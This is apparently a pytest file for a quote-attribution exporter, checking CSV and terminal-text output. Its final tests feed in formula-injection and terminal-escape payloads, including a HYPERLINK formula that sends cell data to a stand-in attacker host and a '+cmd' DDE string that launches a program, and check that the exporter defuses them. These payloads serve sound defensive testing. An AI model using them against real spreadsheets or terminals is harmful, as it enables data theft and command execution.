"""Exports as a user opens them: a spreadsheet from the CSV, a terminal from the text format."""

import csv
import io
import json

from provenance import export
from provenance.model import Article, Claim, Cue, Source, Span, assign_ids

TEXT = '"The plan," she said, "is dead.\nWe will vote against it."\n\nOfficials said, in a statement, that talks "will go on".'


def _pairs():
    article = Article(doc="vote", text=TEXT, title='Vote, "again"', publisher="The Post")
    said = TEXT.index("said")
    quote = Claim(
        type="direct", sentence=0,
        source=Source(text="she", start=TEXT.index("she"), end=TEXT.index("she") + 3, name="Ana Ruiz", kind="person"),
        cue=Cue(text="said", start=said, end=said + 4, lemma="say"),
        content=Span.from_segments(TEXT, [(1, 10), (TEXT.index("is dead"), TEXT.index("it.") + 3)]),
        confidence=0.9, cue_class="neutral",
    )
    said2 = TEXT.index("said", said + 1)
    talks = TEXT.index("talks")
    plain = Claim(
        type="mixed", sentence=2,
        source=Source(text="Officials", start=TEXT.index("Officials"), end=TEXT.index("Officials") + 9,
                      name="officials", kind="anonymous"),
        cue=Cue(text="said", start=said2, end=said2 + 4, lemma="say"),
        content=Span.from_offsets(TEXT, talks, len(TEXT) - 1), confidence=0.8, cue_class="neutral",
    )
    claims = assign_ids([quote, plain], article.id)
    meta = {"doc": article.doc, "title": article.title, "publisher": article.publisher}
    return [(c, meta) for c in claims]


def test_csv_round_trips_newlines_quotes_and_the_pieces_of_a_split_quote():
    out = io.StringIO()
    assert export.write(_pairs(), out, "csv") == 2
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == 2
    quote, plain = rows
    assert quote["title"] == 'Vote, "again"'
    # content_text is the hull (it holds 'she said'); content_segments says which parts are the quote
    assert "\n" in quote["content_text"] and "she said" in quote["content_text"]
    segments = json.loads(quote["content_segments"])
    assert [TEXT[s:e] for s, e in segments] == ["The plan,", "is dead.\nWe will vote against it."]
    assert plain["content_segments"] == ""
    assert TEXT[int(plain["content_start"]):int(plain["content_end"])] == plain["content_text"]


def test_text_format_shows_a_split_quote_without_the_words_between_its_pieces():
    out = io.StringIO()
    export.write(_pairs(), out, "text")
    text = out.getvalue()
    assert "The plan, … is dead. We will vote against it." in " ".join(text.split())
    assert "she said" not in text.split("--said-->", 1)[1].split("[2]")[0]


def test_readme_claim_example_has_the_shape_export_writes():
    """The README's "The claim, as JSON" is the contract other tools read: its example must have exactly
    the fields, order and nested fields of a real claim object, and its table must explain each field."""
    import re
    from pathlib import Path

    readme = (Path(__file__).resolve().parent.parent / "README.md").read_text(encoding="utf-8")
    section = readme.split("## The claim, as JSON", 1)[1].split("\n## ", 1)[0]
    example = json.loads(re.search(r"```json\n(.*?)```", section, re.S).group(1))
    claim, meta = _pairs()[0]
    real = export.claim_object(claim, {"doc": meta["doc"]})
    assert list(example) == list(real)
    for role in ("source", "cue", "content"):
        assert set(example[role]) == set(real[role]) - {"segments"}, role
    documented = set(re.findall(r"^\| `(\w+)` \|", section, re.M))
    assert documented == set(real), documented ^ set(real)


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1) said the \x1b]0;owned\x07 minister \x1b[2J\u202e. Done.'


def _hostile_pairs():
    """A claim whose every text field starts like a spreadsheet formula or holds terminal escapes."""
    text = HOSTILE
    said = text.index("said")
    claim = Claim(
        type="indirect", sentence=0,
        source=Source(text="the \x1b]0;owned\x07 minister", start=text.index("the"), end=text.index("\u202e"),
                      name="@SUM(1+1)", kind="person"),
        cue=Cue(text="said", start=said, end=said + 4, lemma="say"),
        content=Span.from_offsets(text, 0, said - 1), confidence=0.5, cue_class="neutral",
    )
    meta = {"doc": "-2+3", "title": "+cmd|' /C calc'!A0", "publisher": "\tTab Co", "url": "@evil"}
    return [(c, meta) for c in assign_ids([claim], "a")]


def test_csv_cells_never_start_a_formula():
    out = io.StringIO()
    export.write(_hostile_pairs(), out, "csv")
    [row] = csv.DictReader(io.StringIO(out.getvalue(), newline=""))
    for column in ("content_text", "source_name", "doc", "title", "publisher", "url"):
        assert row[column].startswith("'"), (column, row[column])
    assert row["content_text"] == "'" + HOSTILE[: HOSTILE.index("said") - 1]
    assert row["confidence"] == "0.5" and row["content_start"] == "0"  # numbers are numbers


def test_text_format_passes_no_terminal_escapes():
    out = io.StringIO()
    export.write(_hostile_pairs(), out, "text")
    text = out.getvalue()
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "\\x1b]0;owned\\x07" in text  # shown, not obeyed
